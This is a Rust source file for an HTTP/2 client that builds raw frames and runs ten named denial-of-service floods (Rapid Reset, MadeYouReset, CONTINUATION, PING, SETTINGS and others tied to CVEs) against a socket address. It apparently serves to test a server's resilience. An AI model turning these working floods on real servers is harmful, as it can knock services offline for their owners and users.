//! An HTTP/2 client (RFC 9113) that sends any frames, valid or not, and the floods of RFC 9113,
//! 10.5.

use std::io::{self, Read as _, Write as _};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use epicepoch_wire::http2::frame::flag::{END_HEADERS, END_STREAM};
pub use epicepoch_wire::http2::frame::{PREFACE, kind};

/// At most this many bytes per write.
const CHUNK_LEN: usize = 32 << 10;
/// The longest time of a write. If a write takes longer, the server has stopped reading.
const WRITE_TIMEOUT: Duration = Duration::from_secs(5);

/// Encodes one frame.
#[must_use]
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// Returns the header block of a GET, without indexing and without compression (RFC 7541, 6.2.2).
#[must_use]
pub fn get(path: &str) -> Vec<u8> {
    // `:method: GET`, `:scheme: http`, and the name `:authority`, of the static table.
    let mut block = vec![0x82, 0x86, 0x01, 9];
    block.extend_from_slice(b"localhost");
    block.extend([0x04, path.len() as u8]);
    block.extend_from_slice(path.as_bytes());
    block
}

/// The frames that a flood repeats.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Malformed requests, which the server must reset (CVE-2025-8671).
    MadeYouReset,
    /// A header block without an end (CVE-2024-27316).
    Continuation,
    /// Requests on more streams than the server allows. Their answers are never read.
    Streams,
    /// Empty DATA frames (CVE-2019-9518).
    EmptyData,
    /// SETTINGS (CVE-2019-9515).
    Settings,
    /// PING (CVE-2019-9512).
    Ping,
    /// WINDOW_UPDATE of one byte.
    WindowUpdate,
    /// PRIORITY (CVE-2019-9513).
    Priority,
    /// Frames of unknown types.
    Unknown,
}

impl Flood {
    /// Every flood.
    pub const ALL: [Self; 10] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::Streams,
        Self::EmptyData,
        Self::Settings,
        Self::Ping,
        Self::WindowUpdate,
        Self::Priority,
        Self::Unknown,
    ];

    /// Returns the flood's name on the command line.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid-reset",
            Self::MadeYouReset => "made-you-reset",
            Self::Continuation => "continuation",
            Self::Streams => "streams",
            Self::EmptyData => "empty-data",
            Self::Settings => "settings",
            Self::Ping => "ping",
            Self::WindowUpdate => "window-update",
            Self::Priority => "priority",
            Self::Unknown => "unknown",
        }
    }

    /// The flood with that name.
    #[must_use]
    pub fn named(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|flood| flood.name() == name)
    }

    /// Frames that the flood sends once, after SETTINGS.
    fn opening(self) -> Vec<u8> {
        match self {
            Self::Continuation => frame(kind::HEADERS, END_STREAM, 1, &get("/timestamp")),
            Self::EmptyData => frame(kind::HEADERS, END_HEADERS, 1, &get("/timestamp")),
            _ => Vec::new(),
        }
    }

    /// The frames of round `round`.
    fn piece(self, round: u32) -> Vec<u8> {
        let stream = 1 + 2 * round;
        match self {
            Self::RapidReset => {
                let ask =
                    frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &get("/timestamp"));
                [ask, frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
            }
            // The request is malformed, because `:scheme` and `:path` are missing.
            Self::MadeYouReset => frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &[0x82]),
            Self::Continuation => frame(kind::CONTINUATION, 0, 1, b""),
            Self::Streams => frame(kind::HEADERS, END_HEADERS, stream, &get("/timestamp")),
            Self::EmptyData => frame(kind::DATA, 0, 1, b""),
            Self::Settings => frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0xFF, 0xFF]),
            Self::Ping => frame(kind::PING, 0, 0, &[7; 8]),
            Self::WindowUpdate => frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Self::Priority => frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 3, 16]),
            Self::Unknown => frame(0xFE, 0, 0, b""),
        }
    }
}

/// The result of a flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Outcome {
    /// Whether the server has ended the connection.
    pub is_ended: bool,
    /// How often the flood's frames were sent. Those that are still in socket buffers count, too.
    pub pieces: u32,
    /// Bytes received.
    pub answered: u64,
}

/// Floods one connection until the server ends it, or for `limit`. Reads all answers.
///
/// # Errors
/// The server accepts no connection.
pub fn flood(addr: SocketAddr, flood: Flood, limit: Duration) -> io::Result<Outcome> {
    let mut stream = TcpStream::connect(addr)?;
    stream.set_write_timeout(Some(WRITE_TIMEOUT))?;
    let reading = stream.try_clone()?;
    let reader = thread::spawn(move || read_all(reading));
    let start = Instant::now();
    let mut begin = PREFACE.to_vec();
    begin.extend(frame(kind::SETTINGS, 0, 0, b""));
    begin.extend(flood.opening());
    let (mut pieces, mut is_refused) = (0, stream.write_all(&begin).is_err());
    // The limit of pieces keeps stream ids below the highest one.
    while !is_refused && start.elapsed() < limit && pieces < 1 << 30 {
        let mut chunk = Vec::with_capacity(CHUNK_LEN + 256);
        while chunk.len() < CHUNK_LEN {
            chunk.extend(flood.piece(pieces));
            pieces += 1;
        }
        is_refused = stream.write_all(&chunk).is_err();
    }
    // The server has ended the connection if a write failed, or if the reader has come to the end
    // of the stream.
    let has_ended = is_refused || reader.is_finished();
    let _ = stream.shutdown(Shutdown::Both);
    let answered = reader.join().unwrap_or_default();
    Ok(Outcome { is_ended: has_ended, pieces, answered })
}

/// Reads until the connection ends. Returns the number of bytes read.
fn read_all(mut stream: TcpStream) -> u64 {
    let mut chunk = vec![0; 64 << 10];
    let mut total = 0;
    loop {
        match stream.read(&mut chunk) {
            Ok(0) | Err(_) => return total,
            Ok(length) => total += length as u64,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_is_as_the_standard_draws_it() {
        let bytes = frame(kind::PING, 0, 0, &[7; 8]);
        assert_eq!(bytes, [0, 0, 8, 6, 0, 0, 0, 0, 0, 7, 7, 7, 7, 7, 7, 7, 7]);
        assert_eq!(frame(kind::HEADERS, 5, 3, b"\x82")[..9], [0, 0, 1, 1, 5, 0, 0, 0, 3]);
    }

    #[test]
    fn every_flood_has_its_name() {
        for flood in Flood::ALL {
            assert_eq!(Flood::named(flood.name()), Some(flood));
            assert!(!flood.piece(1).is_empty());
        }
    }
}
